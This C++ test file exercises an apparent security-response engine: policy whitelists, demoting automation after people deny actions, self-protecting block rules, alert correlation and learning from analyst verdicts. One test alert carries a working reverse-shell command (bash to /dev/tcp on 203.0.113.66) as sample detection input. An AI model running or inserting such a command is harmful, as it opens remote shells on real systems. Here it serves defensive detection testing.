#include "engine/app/engine.hpp"

#include "engine/app/api_client.hpp"
#include "engine/base/digest.hpp"
#include "engine/http/client.hpp"
#include "engine/http/server.hpp"
#include "engine/http/sse.hpp"
#include "engine/model/notification.hpp"
#include "tests/app/shipped_settings.hpp"
#include "tests/base/run.hpp"
#include "tests/store/temporary_directory.hpp"

#include <boost/asio/co_spawn.hpp>
#include <boost/asio/executor_work_guard.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/post.hpp>
#include <gmock/gmock.h>

#include <fstream>
#include <future>
#include <mutex>
#include <thread>

namespace sallyport::app::testing {

using namespace std::chrono_literals;
using ::testing::HasSubstr;

namespace {

constexpr auto webhook_secret = "0123456789abcdef";
constexpr auto alice = "alice-token-0123456789";
constexpr auto bob = "bob-token-0123456789";
constexpr auto carol = "carol-token-0123456789";

/// disable_user runs by itself on temporary accounts alone.
constexpr auto policy_text = R"(# ours
tenants:
  acme:
    tier: L4
    whitelist:
      - { id: temporary, action: disable_user, target_prefix: tmp-, expires: 2099-01-01T00:00:00Z, notify: soc-channel }
  late: { tier: L3, authority: { owner: lead, review_by: 2020-01-01T00:00:00Z } }
)";

/// A server of somebody else, on a thread of its own, that takes what it is sent.
class Receiver {
 public:
  Receiver() {
    std::promise<void> listening;
    asio::post(loop_, [&] {
      auto handler = [this](http::Request request, http::ConnectionInfo) -> Task<http::Response> {
        const std::scoped_lock lock{mutex_};
        got_.push_back(std::move(request));
        co_return http::Response{.status = 202};
      };
      server_ = http::Server::listen(
                    loop_.get_executor(), {}, std::move(handler), [](std::exception_ptr) {})
                    .value();
      listening.set_value();
    });
    listening.get_future().wait();
  }

  ~Receiver() {
    std::promise<void> stopped;
    asio::co_spawn(loop_, server_->stop(Deadline::in(1s)), [&](const std::exception_ptr&) {
      stopped.set_value();
    });
    stopped.get_future().wait();
    keep_.reset();
    thread_.join();
  }

  Receiver(const Receiver&) = delete;
  Receiver& operator=(const Receiver&) = delete;

  [[nodiscard]] std::string url() const {
    return fmt::format("http://127.0.0.1:{}/hook", server_->port());
  }

  /// The first notification of that kind; its signature was right.
  [[nodiscard]] std::optional<model::Notification> of(model::NotificationKind kind) {
    const std::scoped_lock lock{mutex_};
    for (const auto& request : got_) {
      const auto* signature = http::find(request.headers, "X-Sallyport-Signature");
      EXPECT_TRUE(signature &&
                  *signature == "sha256=" + to_hex(hmac_sha256(webhook_secret, request.body)));
      auto one = from_json<model::Notification>(request.body);
      EXPECT_TRUE(one) << request.body;
      if (one && one->kind == kind) return *std::move(one);
    }
    return std::nullopt;
  }

 private:
  asio::io_context loop_{1};
  asio::executor_work_guard<asio::io_context::executor_type> keep_{loop_.get_executor()};
  std::thread thread_{[this] { loop_.run(); }};
  std::unique_ptr<http::Server> server_;
  std::mutex mutex_;
  std::vector<http::Request> got_;
};

template <class Condition>
bool comes_true(const Condition& holds) {
  const auto until = std::chrono::steady_clock::now() + 20s;
  while (!holds()) {
    if (std::chrono::steady_clock::now() > until) return false;
    std::this_thread::sleep_for(20ms);
  }
  return true;
}

/// The engine as `sallyport run` makes it, with a directory that nobody answers at.
struct House {
  House() {
    write("policy.yaml", policy_text);
    write("alice", alice);
    write("bob", bob);
    write("carol", carol);
    write("hook", webhook_secret);
    write("bind", "bind-password");
    start();
  }

  void write(const std::string& name, std::string_view text) const {
    std::ofstream{folder.path() / name, std::ios::trunc} << text;
  }

  [[nodiscard]] std::string secret(const std::string& name) const {
    return "file:" + (folder.path() / name).string();
  }

  void start() {
    auto settings = shipped_settings(folder.path());
    settings.http.tokens = {
        {.name = "alice", .secret = secret("alice"), .tenant = "acme", .roles = {"analyst"}},
        {.name = "bob", .secret = secret("bob"), .tenant = "*", .roles = {"admin"}},
        {.name = "carol", .secret = secret("carol"), .tenant = "acme", .roles = {"admin"}}};
    settings.notifications.channels["default"] = {.url = receiver.url(), .secret = secret("hook")};
    settings.connectors["idp"] = {{"type", "ldap"},
                                  {"urls", {"ldap://127.0.0.1:1"}},
                                  {"bind_dn", "cn=sallyport"},
                                  {"bind_password", secret("bind")},
                                  {"base_dn", "dc=acme"}};
    settings.connectors.insert(also.begin(), also.end());
    auto made = Engine::make(std::move(settings), observe::Log::silent());
    if (!made) throw std::runtime_error{made.error().detail};
    engine = *std::move(made);
    if (const auto started = engine->start(); !started)
      throw std::runtime_error{started.error().detail};
  }

  [[nodiscard]] std::unique_ptr<ApiClient> client(const char* token) const {
    return ApiClient::make({.url = fmt::format("http://127.0.0.1:{}", engine->http_port()),
                            .token = token,
                            .ca_file = {}})
        .value();
  }

  /// Alice's own action, as it was decided.
  [[nodiscard]] json::value propose(const std::string& user) const {
    auto action = client(alice)->post(
        {"v1", "actions"},
        {{"action", "disable_user"}, {"target", {{"kind", "user"}, {"value", user}}}});
    if (!action) throw std::runtime_error{action.error().detail};
    return *std::move(action);
  }

  void deny(const json::value& action) const {
    const auto denied = client(bob)->post({"v1", "approvals", shown(action, "id"), "deny"},
                                          {{"request_hash", shown(action, "request_hash")}});
    EXPECT_TRUE(denied) << denied.error().detail;
  }

  [[nodiscard]] json::array ledger(const std::string& kind, const std::string& tenant) const {
    return client(bob)->list({"v1", "ledger"}, {{"kind", kind}, {"tenant", tenant}}, 100).value();
  }

  sallyport::testing::TemporaryDirectory folder;
  Receiver receiver;
  std::map<std::string, json::object> also;  ///< Connectors, for the next start().
  std::unique_ptr<Engine> engine;
};

}  // namespace

TEST(Engine, TakesAVerbBackToTheQueueThatPeopleDenyAndTellsThem) {
  House house;
  using enum model::NotificationKind;
  EXPECT_EQ(shown(house.propose("tmp-1"), "decision.reason"), "whitelist");
  ASSERT_TRUE(comes_true([&] { return house.receiver.of(whitelist_fired).has_value(); }));
  EXPECT_EQ(house.receiver.of(whitelist_fired)->to, "soc-channel");
  ASSERT_TRUE(comes_true([&] { return house.receiver.of(review_overdue).has_value(); }));
  EXPECT_EQ(house.receiver.of(review_overdue)->tenant, "late");

  for (int i = 0; i < 5; ++i) {
    const auto action = house.propose(fmt::format("employee-{}", i));
    EXPECT_EQ(shown(action, "decision.reason"), "no_whitelist_match");
    house.deny(action);
  }
  // The next proposals: some may run by themselves until the engine has looked, a moment later.
  int proposed = 1;
  ASSERT_TRUE(comes_true([&] {
    return shown(house.propose(fmt::format("tmp-{}", ++proposed)), "state") == "queued";
  }));
  const auto queued = house.propose("tmp-last");
  EXPECT_EQ(shown(queued, "decision.reason"), "rate_limit");
  EXPECT_THAT(shown(queued, "decision.rationale"),
              HasSubstr(R"(its limit is 0 when {"target.kind":"user"} (demoted: people)"));

  ASSERT_TRUE(comes_true([&] { return house.receiver.of(demoted).has_value(); }));
  EXPECT_EQ(house.receiver.of(demoted)->facts.at("verb"), "disable_user");
  const auto changes = house.ledger("policy_changed", "acme");
  EXPECT_EQ(shown(changes.back(), "actor.id"), "autonomy");
  EXPECT_THAT(shown(changes.back(), "body.reason"), HasSubstr("0 of the last 5 disable_user"));
  EXPECT_TRUE(comes_true([&] {
    return std::ranges::any_of(house.ledger("notified", "acme"), [](const json::value& entry) {
      return shown(entry, "body.kind") == "demoted" && shown(entry, "body.status") == "delivered" &&
             shown(entry, "body.channel") == "default";
    });
  }));

  house.engine.reset();
  house.start();
  EXPECT_EQ(shown(house.propose("tmp-after"), "decision.reason"), "rate_limit");
  const auto rows = house.client(bob)->get({"v1", "readiness"}, {{"tenant", "acme"}});
  ASSERT_TRUE(rows);
  EXPECT_THAT(to_json(*rows),
              HasSubstr(R"("could":"none","why":"its limit is 0: demoted: people)"));

  house.write("policy.yaml", policy_text);
  EXPECT_TRUE(comes_true([&] {
    return shown(house.propose(fmt::format("tmp-again-{}", ++proposed)), "decision.reason") ==
           "whitelist";
  }));
}

namespace {

/// What the stream tells of actions until `n` have been told of.
asio::awaitable<void> hear_actions(House& house, std::vector<std::string>& states, std::size_t n) {
  http::Client client{co_await asio::this_coro::executor, nullptr, http::PoolLimits{}};
  http::Call call{.origin = {.tls = false,
                             .host = "127.0.0.1",
                             .port = std::to_string(house.engine->http_port())},
                  .request = {.method = "GET",
                              .target = "/v1/stream",
                              .headers = {{"Authorization", fmt::format("Bearer {}", bob)}},
                              .body = {}},
                  .header_limit_bytes = 16384,
                  .body_limit_bytes = 1 << 20};
  auto stream = co_await client.open(std::move(call), Deadline::in(10s));
  EXPECT_TRUE(stream) << stream.error().detail;
  if (!stream) co_return;
  house.deny(house.propose("employee"));
  http::SseParser parser{1 << 20};
  while (states.size() < n) {
    const auto piece = co_await stream->next(Deadline::in(10s));
    EXPECT_TRUE(piece && *piece);
    if (!piece || !*piece) co_return;
    const auto events = parser.push(**piece);
    for (const auto& event : *events) {
      if (event.event == "action") states.push_back(shown(parse_json(event.data).value(), "state"));
    }
  }
}

}  // namespace

TEST(Engine, RefusesToCutOffWhereItsOtherConnectorsAreReached) {
  House house;
  house.also["firewall"] = {{"type", "nftables"}};
  house.also["collector"] = {
      {"type", "syslog"}, {"host", "198.51.100.20"}, {"transport", "udp"}, {"format", "cef"}};
  house.engine.reset();
  house.start();
  const auto propose = [&](std::string_view verb, std::string_view address) {
    return house.client(alice)->post(
        {"v1", "actions"}, {{"action", verb}, {"target", {{"kind", "ip"}, {"value", address}}}});
  };
  for (const auto* address : {"198.51.100.20", "::ffff:198.51.100.20", "0.0.0.0/0", "127.0.0.2"}) {
    const auto refused = propose("block_ip", address);
    ASSERT_FALSE(refused) << address;
    EXPECT_EQ(refused.error().code, Errc::denied) << address << ": " << refused.error().detail;
  }
  const auto decided = house.ledger("decided", "acme");
  ASSERT_EQ(decided.size(), 4U);
  EXPECT_EQ(shown(decided.front(), "body.detail"),
            "refused: that is where this engine reaches what it lives by");
  EXPECT_TRUE(house.client(alice)->list({"v1", "actions"}, {}, 10)->empty());
}

TEST(Engine, TellsOnTheStreamWhatWaitsForAPersonAndWhatWasDenied) {
  House house;
  std::vector<std::string> states;
  sallyport::testing::run(hear_actions(house, states, 2));
  EXPECT_THAT(states, ::testing::ElementsAre("queued", "denied"));
}

namespace {

json::object brute_force(std::string_view id, std::string_view host) {
  return {{"id", id},
          {"title", "Brute force"},
          {"rule_id", "R1"},
          {"severity", "high"},
          {"host", host},
          {"src_ip", "203.0.113.66"}};
}

/// The investigation that an alert belongs to, as it was received.
std::string investigation_of(const House& house, std::string_view uid) {
  for (const auto& entry : house.ledger("received", "acme"))
    if (shown(entry, "subject") == uid) return shown(entry, "body.investigation");
  return {};
}

void send(const House& house, const json::value& alerts) {
  const auto sent = house.client(carol)->post({"v1", "alerts"}, alerts);
  ASSERT_TRUE(sent) << sent.error().detail;
}

}  // namespace

TEST(Engine, AlertsOfOneStoryAreOneInvestigationAlsoAcrossARestart) {
  House house;
  send(house, json::array{brute_force("1", "WKS-1")});
  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
  send(house, json::array{brute_force("2", "WKS-1"), brute_force("2", "WKS-1")});
  const auto id = investigation_of(house, "1");
  EXPECT_EQ(investigation_of(house, "2"), id);

  house.engine.reset();
  house.start();
  send(house, json::array{brute_force("3", "WKS-1"), brute_force("2", "WKS-1")});
  EXPECT_EQ(investigation_of(house, "3"), id);
  const auto one = house.client(alice)->get({"v1", "investigations", id});
  ASSERT_TRUE(one) << one.error().detail;
  EXPECT_EQ(shown(*one, "count"), "3");
  EXPECT_EQ(one->at("alerts"), (json::array{"1", "2", "3"}));
  EXPECT_EQ(house.client(alice)->list({"v1", "investigations"}, {}, 10)->size(), 1U);
  ASSERT_TRUE(comes_true([&] { return house.engine->under_way() == 0; }));
  EXPECT_EQ(house.ledger("verdict", "acme").size(), 1U);
}

TEST(Engine, ALaterAlertThatRaisesAStoryGivesItsVerdictANewVersion) {
  House house;
  send(house, json::array{brute_force("1", "WKS-1")});
  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
  auto worse = brute_force("2", "WKS-1");
  worse["command_line"] = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1";
  worse["severity"] = "critical";
  send(house, json::array{worse});
  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 2; }));
  const auto verdicts = house.ledger("verdict", "acme");
  EXPECT_EQ(shown(verdicts[0], "subject"), shown(verdicts[1], "subject"));
  EXPECT_EQ(shown(verdicts[1], "body.version"), "2");
  EXPECT_EQ(shown(verdicts[1], "body.severity"), "critical");
  EXPECT_THAT(to_json(verdicts[1]), HasSubstr("text.reverse_shell"));
  EXPECT_EQ(verdicts[1].at("body").at("alerts"), (json::array{"1", "2"}));
}

TEST(Engine, LearnsFromAPersonsVerdictUntilAPersonTakesItBack) {
  House house;
  send(house, json::array{brute_force("1", "WKS-1")});
  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
  const auto id = investigation_of(house, "1");
  const auto people = house.client(alice);
  EXPECT_FALSE(people->post({"v1", "investigations", id, "verdict"}, {{"verdict", "benign"}}));
  const auto judged = people->post({"v1", "investigations", id, "verdict"},
                                   {{"verdict", "benign"}, {"comment", "our own test"}});
  ASSERT_TRUE(judged) << judged.error().detail;
  const auto entry = house.ledger("judged", "acme").back();
  EXPECT_EQ(shown(entry, "actor.id"), "alice");
  EXPECT_EQ(shown(entry, "body.detection"), "R1");

  const auto learned = [&] { return people->get({"v1", "learned"})->at("items").as_array(); };
  ASSERT_TRUE(comes_true([&] { return learned().size() == 1; }));
  EXPECT_LT(learned()[0].at("leaning").to_number<double>(), 0);
  auto elsewhere = brute_force("2", "WKS-2");
  elsewhere["src_ip"] = "203.0.113.67";
  send(house, json::array{elsewhere});
  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 2; }));
  const auto taught = to_json(house.ledger("verdict", "acme").back());
  EXPECT_THAT(taught, HasSubstr(R"({"term":"people.benign","weight":-)"));
  EXPECT_THAT(taught, HasSubstr("alice judged " + id + " to be benign"));

  house.engine.reset();
  house.start();
  const auto again = house.client(alice);
  EXPECT_EQ(again->get({"v1", "learned"})->at("items").as_array().size(), 1U);
  EXPECT_TRUE(again->post({"v1", "learned", "reset"},
                          {{"source", "generic"}, {"detection", "R1"}, {"reason", "rewritten"}}));
  EXPECT_TRUE(
      comes_true([&] { return again->get({"v1", "learned"})->at("items").as_array().empty(); }));
  EXPECT_EQ(shown(house.ledger("unlearned", "acme").back(), "body.reason"), "rewritten");
}

}  // namespace sallyport::app::testing
